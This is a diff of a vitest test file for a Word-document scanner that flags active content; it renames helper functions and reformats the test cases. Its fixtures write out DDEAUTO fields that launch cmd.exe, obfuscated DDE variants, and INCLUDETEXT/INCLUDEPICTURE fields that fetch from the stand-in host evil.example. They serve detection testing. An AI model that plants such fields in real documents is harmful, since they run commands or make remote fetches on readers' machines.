@@ -2,17 +2,17 @@ import { describe, expect, test } from 'vitest'
 import { externalLink, makeDocx, paragraph } from '#tests/support/make-docx.ts'
 import { relationship, rels, scan } from '#tests/support/active-content.ts'
 
-const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
-const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
+const fieldMark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
+const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
 const field = (...runs: string[]) =>
-  `<w:p>${mark('begin')}${runs.join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`
+  `<w:p>${fieldMark('begin')}${runs.join('')}${fieldMark('separate')}<w:r><w:t>1</w:t></w:r>${fieldMark('end')}</w:p>`
 const template = (target: string) =>
   makeDocx(paragraph('Contrato'), {
     parts: [{ name: 'word/_rels/settings.xml.rels', data: rels(relationship('attachedTemplate', target, true)) }],
   })
-const withPart = (name: string, kind: string, data = 'x') =>
+const withPart = (name: string, relationshipType: string, data = 'x') =>
   makeDocx(paragraph('Contrato'), {
-    relationships: relationship(kind, name.replace(/^word\//, '')),
+    relationships: relationship(relationshipType, name.replace(/^word\//, '')),
     parts: [{ name, data }],
   })
 
@@ -40,21 +40,37 @@ describe('a Word file', () => {
     ['a workbook inside', withPart('word/embeddings/Hoja.xlsx', 'package'), 'embedded_object'],
     ['an embedded document of another format', withPart('word/afchunk.rtf', 'aFChunk'), 'embedded_object'],
     ['an ActiveX control', withPart('word/activeX/activeX1.xml', 'control', '<a/>'), 'active_control'],
-    ['a DDE field', makeDocx(field(code('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))), 'dde_field'],
-    ['a DDE field over several runs', makeDocx(field(code(' D'), code('DE'), code('AUTO cmd "/k calc"'))), 'dde_field'],
+    [
+      'a DDE field',
+      makeDocx(field(instruction('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
+      'dde_field',
+    ],
+    [
+      'a DDE field over several runs',
+      makeDocx(field(instruction(' D'), instruction('DE'), instruction('AUTO cmd "/k calc"'))),
+      'dde_field',
+    ],
     [
       'a simple DDE field',
       makeDocx(`<w:p><w:fldSimple w:instr=" dde cmd &quot;/k calc&quot;"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>`),
       'dde_field',
     ],
-    ['a DDE field behind character references', makeDocx(field(code('&#x44;DE cmd'))), 'dde_field'],
+    ['a DDE field behind character references', makeDocx(field(instruction('&#x44;DE cmd'))), 'dde_field'],
     [
       'a DDE field whose name is made by another field',
-      makeDocx(field(mark('begin'), code('QUOTE 68 68 69'), mark('separate'), mark('end'), code(' cmd "/k calc"'))),
+      makeDocx(
+        field(
+          fieldMark('begin'),
+          instruction('QUOTE 68 68 69'),
+          fieldMark('separate'),
+          fieldMark('end'),
+          instruction(' cmd "/k calc"'),
+        ),
+      ),
       'dde_field',
     ],
-    ['a DDE field that never ends', makeDocx(`<w:p>${mark('begin')}${code('DDE cmd')}</w:p>`), 'dde_field'],
-    ['a DDE field in a header', makeDocx(paragraph('a'), { header: field(code('DDEAUTO cmd')) }), 'dde_field'],
+    ['a DDE field that never ends', makeDocx(`<w:p>${fieldMark('begin')}${instruction('DDE cmd')}</w:p>`), 'dde_field'],
+    ['a DDE field in a header', makeDocx(paragraph('a'), { header: field(instruction('DDEAUTO cmd')) }), 'dde_field'],
     [
       'a DDE field in UTF-16',
       makeDocx(paragraph('a'), {
@@ -67,10 +83,14 @@ describe('a Word file', () => {
       }),
       'dde_field',
     ],
-    ['a field that fetches text', makeDocx(field(code('INCLUDETEXT "https://evil.example/a.docx"'))), 'remote_content'],
+    [
+      'a field that fetches text',
+      makeDocx(field(instruction('INCLUDETEXT "https://evil.example/a.docx"'))),
+      'remote_content',
+    ],
     [
       'a field that fetches a picture from a share',
-      makeDocx(field(code('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d'))),
+      makeDocx(field(instruction('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" \\d'))),
       'remote_content',
     ],
     [
@@ -100,8 +120,8 @@ describe('a Word file', () => {
     expect((await scan(bytes)).macros).toBe(true)
   })
 
-  test('is flagged for everything that it contains', async () => {
-    const bytes = makeDocx(field(code('DDE cmd')), {
+  test('is flagged once for each kind of active content in it', async () => {
+    const bytes = makeDocx(field(instruction('DDE cmd')), {
       relationships: externalLink('https://evil.example/a.png', 'image'),
       parts: [
         {
@@ -129,7 +149,7 @@ describe('a Word file', () => {
     [
       'usual fields',
       makeDocx(
-        `${field(code(' PAGE '))}${field(code('HYPERLINK "https://example.com/dde"'))}${field(code('MERGEFIELD DDE_NUMERO'))}${field(code('INCLUDEPICTURE "fotos\\\\a.png" \\* MERGEFORMAT'))}`,
+        `${field(instruction(' PAGE '))}${field(instruction('HYPERLINK "https://example.com/dde"'))}${field(instruction('MERGEFIELD DDE_NUMERO'))}${field(instruction('INCLUDEPICTURE "fotos\\\\a.png" \\* MERGEFORMAT'))}`,
       ),
     ],
     [
@@ -152,7 +172,7 @@ describe('a Word file', () => {
     expect(await scan(bytes)).toEqual({ macros: false, warnings: [] })
   })
 
-  test('is marked as not checked beyond a limit', async () => {
+  test('is marked as not checked when its parts inflate to more than is scanned', async () => {
     const bytes = makeDocx(paragraph('a'), {
       parts: [1, 2, 3].map((n) => ({
         name: `word/relleno${n}.xml`,
